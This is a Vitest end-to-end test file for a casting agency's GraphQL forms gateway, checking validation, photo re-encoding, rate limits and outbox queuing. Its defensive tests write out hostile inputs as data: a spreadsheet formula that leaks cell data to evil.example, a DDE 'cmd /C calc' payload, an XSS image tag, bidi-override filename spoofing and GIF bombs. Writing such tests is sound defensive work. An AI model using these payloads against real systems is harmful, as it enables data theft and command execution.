import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdtemp, rm } from 'node:fs/promises';
import { request as httpRequest } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import sharp from 'sharp';
import { startSandbox, type RunningSandbox } from '@agency/sandbox';
import { VALIDATION } from '@agency/schema/validation';
import { fileFrom, gifBomb, makeImageDir, writeImage } from '../src/modules/forms/__tests__/fixtures';
import { startGatewayForForms, type RunningGateway } from './forms-harness';

/*
 * The forms path end to end: the real sandbox back-ends, the real gateway over HTTP, real image
 * files, GraphQL multipart requests as a browser sends them.
 */

let dir: string;
let images: string;
let sandbox: RunningSandbox;
let gateway: RunningGateway;

const EMAIL_LIMIT = 3;
/** Parser ceiling per file in this run (the default is twice the 8 MB photo limit). */
const FILE_CEILING = 1_000_000;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'forms-e2e-'));
  images = await makeImageDir();
  sandbox = await startSandbox({ port: 0, dataDir: join(dir, 'sandbox') });
  gateway = await startGatewayForForms(sandbox, {
    OUTBOX_PATH: join(dir, 'outbox.sqlite'),
    OUTBOX_RETRY_MS: '200',
    FORMS_RATE_LIMIT_EMAIL: String(EMAIL_LIMIT),
    FORMS_RATE_LIMIT_IP: '1000',
    UPSTREAM_BREAKER_COOLDOWN_MS: '200',
    UPLOAD_FILE_MAX_BYTES: String(FILE_CEILING),
  });
}, 60_000);

afterAll(async () => {
  await gateway?.close();
  await sandbox?.close();
  await rm(dir, { recursive: true, force: true });
  await rm(images, { recursive: true, force: true });
});

// --- helpers ---------------------------------------------------------------------------------

const SCOUTING = /* GraphQL */ `
  mutation Apply($brand: BrandKey!, $input: ScoutingApplicationInput!, $photos: [Upload!]!) {
    submitScoutingApplication(brand: $brand, input: $input, photos: $photos) {
      __typename
      ... on SubmissionAccepted {
        id
        queued
      }
      ... on InvalidInput {
        fields {
          path
          message
        }
      }
      ... on RateLimited {
        retryAfterSeconds
      }
      ... on UpstreamUnavailable {
        message
      }
    }
  }
`;

const RESULT = `__typename
  ... on SubmissionAccepted { id queued }
  ... on InvalidInput { fields { path message } }
  ... on RateLimited { retryAfterSeconds }
  ... on UpstreamUnavailable { message }`;

const QUOTE = `mutation Quote($brand: BrandKey!, $input: QuoteRequestInput!) { requestQuote(brand: $brand, input: $input) { ${RESULT} } }`;
const CONTACT = `mutation Contact($brand: BrandKey!, $input: ContactMessageInput!) { sendContactMessage(brand: $brand, input: $input) { ${RESULT} } }`;

type Result = {
  __typename: string;
  id?: string;
  queued?: boolean;
  fields?: { path: string; message: string }[];
  retryAfterSeconds?: number;
};

let emailCounter = 0;
/** Each application its own address, so the per-e-mail limit only bites where a test wants it. */
const freshEmail = () => `visitor${(emailCounter += 1)}@example.com`;

function application(overrides: Record<string, unknown> = {}) {
  return {
    name: 'Ana Souza',
    gender: 'female',
    // Ids of the sandbox's option tables (manager service): Brasil is 31, its first city São Paulo 1.
    country: { id: '31', label: 'Brasil' },
    city: { id: '1', label: 'São Paulo' },
    phone: '+55 (11) 91234-5678',
    birthdate: '1995-04-30',
    email: freshEmail(),
    experience: 'Teatro e publicidade.',
    actingLink: 'https://example.com/reel',
    instagram: '@ana',
    drt: false,
    ...overrides,
  };
}

async function photos(count = 4): Promise<File[]> {
  const kinds = ['jpeg', 'png', 'gif', 'webp'] as const;
  const names = ['rosto.jpg', 'corpo.png', 'sorriso.gif', 'perfil.webp'];
  const files: File[] = [];
  for (let i = 0; i < count; i += 1) {
    const path = await writeImage(images, `${i}-${names[i % 4]}`, kinds[i % 4]!, 320 + i, 480);
    files.push(await fileFrom(path, names[i % 4]));
  }
  return files;
}

/** A GraphQL multipart request (operations, map, then the files), as the site's client sends it. */
async function submitScouting(
  input: Record<string, unknown>,
  files: File[],
  headers: Record<string, string> = { 'x-agency-client': 'forms-test' },
) {
  const form = new FormData();
  form.append(
    'operations',
    JSON.stringify({
      query: SCOUTING,
      variables: { brand: 'CQ_EMPRESARIAMENTO', input, photos: files.map(() => null) },
    }),
  );
  form.append('map', JSON.stringify(Object.fromEntries(files.map((_, i) => [String(i), [`variables.photos.${i}`]]))));
  files.forEach((file, i) => form.append(String(i), file, file.name));
  return fetch(`${gateway.url}/graphql`, {
    method: 'POST',
    body: form,
    headers,
  });
}

async function scoutingResult(input: Record<string, unknown>, files: File[]): Promise<Result> {
  const response = await submitScouting(input, files);
  const body = (await response.json()) as { data?: { submitScoutingApplication: Result }; errors?: unknown };
  if (!body.data) throw new Error(`GraphQL errors: ${JSON.stringify(body.errors)}`);
  return body.data.submitScoutingApplication;
}

async function gql<T>(query: string, variables: Record<string, unknown>): Promise<T> {
  const response = await fetch(`${gateway.url}/graphql`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-agency-client': 'forms-test' },
    body: JSON.stringify({ query, variables }),
  });
  const body = (await response.json()) as { data?: T; errors?: unknown };
  if (!body.data) throw new Error(`GraphQL errors: ${JSON.stringify(body.errors)}`);
  return body.data;
}

interface StoredSubmission {
  id: number;
  backend: string;
  fields: Record<string, unknown>;
  photos: { field: string; original_name: string; kind: string; path: string }[];
}

async function stored(kind: 'scouting' | 'favorites' | 'contact'): Promise<StoredSubmission[]> {
  const response = await fetch(`${sandbox.url}/__admin/submissions?kind=${kind}`);
  return ((await response.json()) as { data: StoredSubmission[] }).data;
}

async function setFault(backend: string, fault: Record<string, unknown> | null) {
  await fetch(`${sandbox.url}/__admin/faults${fault ? `/${backend}` : ''}`, {
    method: fault ? 'PUT' : 'DELETE',
    headers: fault ? { 'content-type': 'application/json' } : {},
    body: fault ? JSON.stringify(fault) : undefined,
  });
}

async function eventually<T>(read: () => Promise<T>, ok: (value: T) => boolean, ms = 8000): Promise<T> {
  const end = Date.now() + ms;
  for (;;) {
    const value = await read();
    if (ok(value)) return value;
    if (Date.now() > end) throw new Error(`condition not met in ${ms} ms: ${JSON.stringify(value)}`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

/** Runs `act` and checks that the sandbox stored nothing new of that kind meanwhile. */
async function storesNothing<T>(kind: 'scouting' | 'favorites' | 'contact', act: () => Promise<T>): Promise<T> {
  const before = (await stored(kind)).length;
  const result = await act();
  expect((await stored(kind)).length).toBe(before);
  return result;
}

// --- tests -----------------------------------------------------------------------------------

describe('scouting options', () => {
  it('lists countries with Brazil first, licences, and the cities of a country', async () => {
    const data = await gql<{ scoutingOptions: { countries: { id: string; value: string }[]; licenses: unknown[] } }>(
      `query { scoutingOptions { countries { id value } licenses { id value } } }`,
      {},
    );
    expect(data.scoutingOptions.countries[0]!.value).toBe('Brasil');
    expect(data.scoutingOptions.licenses.length).toBeGreaterThan(0);
    const brazil = data.scoutingOptions.countries[0]!.id;
    const cities = await gql<{ cities: { id: string; value: string }[] }>(
      `query ($country: ID!) { cities(country: $country) { id value } }`,
      { country: brazil },
    );
    expect(cities.cities.length).toBeGreaterThan(0);
    expect(cities.cities.every((c) => c.id && c.value)).toBe(true);
  });
});

describe('submitScoutingApplication', () => {
  it('delivers an application with four re-encoded photos to the brand panel', async () => {
    const input = application({ drt: true, drtCategory: { id: '1', label: 'Ator' }, drtNumber: '12345/SP' });
    const result = await scoutingResult(input, await photos());
    expect(result).toMatchObject({ __typename: 'SubmissionAccepted', queued: false });

    const row = (await stored('scouting')).find((s) => s.fields.email === input.email);
    expect(row).toBeDefined();
    expect(row!.backend).toBe('main');
    expect(row!.fields).toMatchObject({
      name: 'Ana Souza',
      id_country: '31',
      country: 'Brasil',
      id_city: '1',
      city: 'São Paulo',
      drt: true,
      drt_number: '12345/SP',
      category: { value: '1', label: 'Ator' },
    });
    expect(row!.photos.map((p) => p.field)).toEqual(['image_1', 'image_2', 'image_3', 'image_4']);
    for (const photo of row!.photos) {
      expect(photo.kind).toBe('jpeg');
      expect(photo.original_name).toMatch(/^[0-9a-f-]{36}\.jpg$/);
      const meta = await sharp(photo.path).metadata();
      expect(meta.format).toBe('jpeg');
      expect(meta.exif).toBeUndefined();
    }
  });

  it('sends the agency the labels of the option tables, never the labels the client sent', async () => {
    const input = application({
      country: { id: '31', label: '<b>Atlantis</b>' },
      city: { id: '1', label: 'Anywhere' },
      drt: true,
      drtCategory: { id: '1', label: 'Astronaut' },
      drtNumber: '1/SP',
    });
    expect(await scoutingResult(input, await photos())).toMatchObject({ __typename: 'SubmissionAccepted' });
    const row = (await stored('scouting')).find((s) => s.fields.email === input.email)!;
    expect(row.fields).toMatchObject({
      id_country: '31',
      country: 'Brasil',
      id_city: '1',
      city: 'São Paulo',
      category: { value: '1', label: 'Ator' },
    });
  });

  it('refuses option ids the tables do not have (a city of another country too), storing nothing', async () => {
    const unknownCountry = await storesNothing('scouting', async () =>
      scoutingResult(application({ country: { id: '999', label: 'Brasil' } }), await photos()),
    );
    expect(unknownCountry).toEqual({
      __typename: 'InvalidInput',
      fields: [{ path: 'country', message: VALIDATION.option }],
    });
    // City 17 is Lisboa (Portugal): not a city of Brasil.
    const foreignCity = await storesNothing('scouting', async () =>
      scoutingResult(
        application({
          city: { id: '17', label: 'São Paulo' },
          drt: true,
          drtCategory: { id: '99', label: 'Ator' },
          drtNumber: '1',
        }),
        await photos(),
      ),
    );
    expect(foreignCity).toEqual({
      __typename: 'InvalidInput',
      fields: [
        { path: 'city', message: VALIDATION.option },
        { path: 'drtCategory', message: VALIDATION.option },
      ],
    });
  });

  it('refuses a .txt renamed .jpg by its content and stores nothing', async () => {
    const files = await photos();
    files[2] = new File([new TextEncoder().encode('plain text pretending to be a photo')], 'foto.jpg', {
      type: 'image/jpeg',
    });
    const result = await storesNothing('scouting', () => scoutingResult(application(), files));
    expect(result).toEqual({
      __typename: 'InvalidInput',
      fields: [{ path: 'image_3', message: VALIDATION.photoType }],
    });
  });

  it('refuses four 10000x10000 GIF bombs on their fields from their headers, storing nothing', async () => {
    const bombs = [1, 2, 3, 4].map((n) => new File([new Uint8Array(gifBomb())], `foto${n}.gif`, { type: 'image/gif' }));
    const result = await storesNothing('scouting', () => scoutingResult(application(), bombs));
    expect(result).toEqual({
      __typename: 'InvalidInput',
      fields: [1, 2, 3, 4].map((n) => ({ path: `image_${n}`, message: VALIDATION.photoDimensions })),
    });
  });

  it('asks for four photos when three are sent', async () => {
    const result = await storesNothing('scouting', async () => scoutingResult(application(), await photos(3)));
    expect(result).toEqual({
      __typename: 'InvalidInput',
      fields: [{ path: 'photos', message: VALIDATION.photosCount }],
    });
  });

  it('refuses a phone outside the +NN (NN) NNNNN-NNNN pattern', async () => {
    const result = await storesNothing('scouting', async () =>
      scoutingResult(application({ phone: '(11) 1234-5678' }), await photos()),
    );
    expect(result).toEqual({ __typename: 'InvalidInput', fields: [{ path: 'phone', message: VALIDATION.phone }] });
  });

  it('refuses a Brazilian fixed line on the scouting form, saying a mobile is needed', async () => {
    const result = await storesNothing('scouting', async () =>
      scoutingResult(application({ phone: '+55 (11) 3071-4400' }), await photos()),
    );
    expect(result).toEqual({
      __typename: 'InvalidInput',
      fields: [{ path: 'phone', message: VALIDATION.mobilePhone }],
    });
  });

  it('refuses 601 characters of experience', async () => {
    const result = await storesNothing('scouting', async () =>
      scoutingResult(application({ experience: 'x'.repeat(601) }), await photos()),
    );
    expect(result).toEqual({
      __typename: 'InvalidInput',
      fields: [{ path: 'experience', message: VALIDATION.tooLong }],
    });
  });

  it('requires the DRT number when DRT is yes', async () => {
    const result = await storesNothing('scouting', async () =>
      scoutingResult(application({ drt: true, drtCategory: { id: '1', label: 'Ator' } }), await photos()),
    );
    expect(result).toEqual({
      __typename: 'InvalidInput',
      fields: [{ path: 'drtNumber', message: VALIDATION.required }],
    });
  });

  it('refuses a filled honeypot', async () => {
    const result = await storesNothing('scouting', async () =>
      scoutingResult(application({ website: 'https://spam.example' }), await photos()),
    );
    expect(result).toEqual({ __typename: 'InvalidInput', fields: [{ path: 'website', message: VALIDATION.honeypot }] });
  });

  it('refuses a multipart request without the x-agency-client header (CSRF)', async () => {
    const response = await storesNothing('scouting', async () => submitScouting(application(), await photos(), {}));
    expect(response.status).toBe(403);
  });

  it('queues an application while the panel is down and delivers it when it is back', async () => {
    const input = application();
    await setFault('main', { down: true });
    try {
      const result = await scoutingResult(input, await photos());
      expect(result).toMatchObject({ __typename: 'SubmissionAccepted', queued: true });
      await new Promise((r) => setTimeout(r, 500));
      expect((await stored('scouting')).some((s) => s.fields.email === input.email)).toBe(false);
    } finally {
      await setFault('main', null);
    }
    const rows = await eventually(
      () => stored('scouting'),
      (list) => list.some((s) => s.fields.email === input.email),
    );
    expect(rows.find((s) => s.fields.email === input.email)!.photos).toHaveLength(4);
  });

  it('stops parsing at a fifth file', async () => {
    const response = await storesNothing('scouting', async () => submitScouting(application(), await photos(5)));
    expect(response.status).toBe(400);
  });

  it('stops parsing a file over the per-file ceiling with 413', async () => {
    const files = await photos();
    const huge = new Uint8Array(FILE_CEILING + 1000);
    huge.set([0xff, 0xd8, 0xff, 0xe0]);
    files[0] = new File([huge], 'enorme.jpg', { type: 'image/jpeg' });
    const response = await storesNothing('scouting', () => submitScouting(application(), files));
    expect(response.status).toBe(413);
  });

  it('refuses a body announced over the upload limit with 413 before reading it', async () => {
    const status = await new Promise<number>((resolve, reject) => {
      const url = new URL(`${gateway.url}/graphql`);
      const req = httpRequest({
        host: url.hostname,
        port: url.port,
        method: 'POST',
        path: '/graphql',
        headers: {
          'content-type': 'multipart/form-data; boundary=x',
          'content-length': String(gateway.uploadBodyMaxBytes + 1),
          'x-agency-client': 'forms-test',
        },
      });
      req.on('response', (res) => {
        res.resume();
        resolve(res.statusCode!);
      });
      req.on('error', reject);
      req.write('--x\r\n');
    });
    expect(status).toBe(413);
  });
});

describe('requestQuote and sendContactMessage', () => {
  const person = () => ({ name: 'Bia Lima', email: freshEmail(), phone: '+55 (21) 99876-5432' });

  it('sends a quote request to the brand panel with the talents as JSON', async () => {
    const input = { ...person(), message: 'Orçamento para campanha', talents: [{ id: '12', name: 'Carla' }] };
    const data = await gql<{ requestQuote: Result }>(QUOTE, { brand: 'JABUTICABA', input });
    expect(data.requestQuote).toMatchObject({ __typename: 'SubmissionAccepted', queued: false });
    const row = (await stored('favorites')).find((s) => s.fields.email === input.email);
    expect(row?.backend).toBe('jabuticaba');
    expect(row?.fields.favorites).toEqual([{ id: '12', name: 'Carla' }]);
  });

  it('describes each listed talent from its own lists (name, profile address, category, measures), never from what was sent', async () => {
    const listed = await gql<{ talents: { nodes: { id: string; name: string; slug: string }[] } }>(
      `{ talents(brand: JABUTICABA, category: "atrizes", first: 2) { nodes { id name slug } } }`,
      {},
    );
    const [first, second] = listed.talents.nodes;
    const input = {
      ...person(),
      message: 'Orçamento para campanha',
      talents: [
        { id: first!.id, name: 'Someone Else' },
        { id: second!.id, name: second!.name },
        { id: '99999999', name: 'No longer listed' },
      ],
    };
    const data = await gql<{ requestQuote: Result }>(QUOTE, { brand: 'JABUTICABA', input });
    expect(data.requestQuote).toMatchObject({ __typename: 'SubmissionAccepted' });
    const row = (await stored('favorites')).find((s) => s.fields.email === input.email);
    const favorites = row?.fields.favorites as Record<string, unknown>[];
    expect(favorites).toHaveLength(3);
    expect(favorites[0]).toMatchObject({
      id: first!.id,
      name: first!.name,
      url: `https://jabuticabacasting.com.br/atrizes/${first!.id}/${first!.slug}`,
      category: 'atrizes',
    });
    expect(Object.keys(favorites[0]!.measures as object)).toContain('height');
    expect(favorites[1]).toMatchObject({ id: second!.id, name: second!.name, category: 'atrizes' });
    expect(favorites[2]).toEqual({ id: '99999999', name: 'No longer listed' });
  });

  it('refuses a 256-character quote message and stores nothing', async () => {
    const input = { ...person(), message: 'm'.repeat(256), talents: [{ id: '12', name: 'Carla' }] };
    const data = await storesNothing('favorites', () =>
      gql<{ requestQuote: Result }>(QUOTE, { brand: 'JABUTICABA', input }),
    );
    expect(data.requestQuote).toEqual({
      __typename: 'InvalidInput',
      fields: [{ path: 'message', message: VALIDATION.tooLong }],
    });
  });

  it('refuses control characters and bidi overrides (a new line only in the message), storing nothing', async () => {
    // A right-to-left override makes "Ana\u202Egpj.exe" read "Anaexe.jpg" in the agency's inbox.
    for (const name of ['Ana \u202Egpj.exe', 'Ana\u0000Souza', 'Ana\nSouza', 'Ana\u2066Souza']) {
      const data = await storesNothing('contact', () =>
        gql<{ sendContactMessage: Result }>(CONTACT, {
          brand: 'DIGITAL',
          input: { ...person(), name, message: 'Olá' },
        }),
      );
      expect(data.sendContactMessage, JSON.stringify(name)).toEqual({
        __typename: 'InvalidInput',
        fields: [{ path: 'name', message: VALIDATION.controlCharacters }],
      });
    }
    const bidiMessage = await storesNothing('favorites', () =>
      gql<{ requestQuote: Result }>(QUOTE, {
        brand: 'JABUTICABA',
        input: { ...person(), message: 'Linha um\n\u202Eois', talents: [{ id: '12', name: 'Carla' }] },
      }),
    );
    expect(bidiMessage.requestQuote).toEqual({
      __typename: 'InvalidInput',
      fields: [{ path: 'message', message: VALIDATION.controlCharacters }],
    });
    const twoLines = await gql<{ sendContactMessage: Result }>(CONTACT, {
      brand: 'DIGITAL',
      input: { ...person(), message: 'Linha um\nLinha dois' },
    });
    expect(twoLines.sendContactMessage).toMatchObject({ __typename: 'SubmissionAccepted' });
  });

  it('refuses formulas a spreadsheet would run and markup in names, in every form, storing nothing', async () => {
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Ana")';
    const contact = await storesNothing('contact', () =>
      gql<{ sendContactMessage: Result }>(CONTACT, {
        brand: 'DIGITAL',
        input: { ...person(), name: formula, message: '@SUM(1+1)*cmd|" /C calc"!A0' },
      }),
    );
    expect(contact.sendContactMessage).toEqual({
      __typename: 'InvalidInput',
      fields: [
        { path: 'name', message: VALIDATION.formulaStart },
        { path: 'message', message: VALIDATION.formulaStart },
      ],
    });
    const quote = await storesNothing('favorites', () =>
      gql<{ requestQuote: Result }>(QUOTE, {
        brand: 'JABUTICABA',
        input: {
          ...person(),
          name: '<img src=x onerror=alert(1)>',
          message: 'Olá',
          talents: [{ id: '999999', name: '+1+1' }],
        },
      }),
    );
    expect(quote.requestQuote).toEqual({
      __typename: 'InvalidInput',
      fields: [
        { path: 'name', message: VALIDATION.markup },
        { path: 'talents', message: VALIDATION.invalid },
      ],
    });
    const scouting = await storesNothing('scouting', async () =>
      scoutingResult(application({ name: '-1+1', instagram: '@HYPERLINK("x")' }), await photos()),
    );
    expect(scouting).toEqual({
      __typename: 'InvalidInput',
      fields: [
        { path: 'name', message: VALIDATION.formulaStart },
        { path: 'instagram', message: VALIDATION.instagram },
      ],
    });
  });

  it('sends contact messages to the main panel and rate-limits one e-mail', async () => {
    const input = { ...person(), message: 'Olá!' };
    for (let i = 0; i < EMAIL_LIMIT; i += 1) {
      const data = await gql<{ sendContactMessage: Result }>(CONTACT, { brand: 'DIGITAL', input });
      expect(data.sendContactMessage).toMatchObject({ __typename: 'SubmissionAccepted', queued: false });
    }
    const rows = (await stored('contact')).filter((s) => s.fields.email === input.email);
    expect(rows.map((r) => r.backend)).toEqual(['main', 'main', 'main']);

    const refused = await storesNothing('contact', () =>
      gql<{ sendContactMessage: Result }>(CONTACT, { brand: 'DIGITAL', input }),
    );
    expect(refused.sendContactMessage.__typename).toBe('RateLimited');
    expect(refused.sendContactMessage.retryAfterSeconds).toBeGreaterThan(500);
  });
});
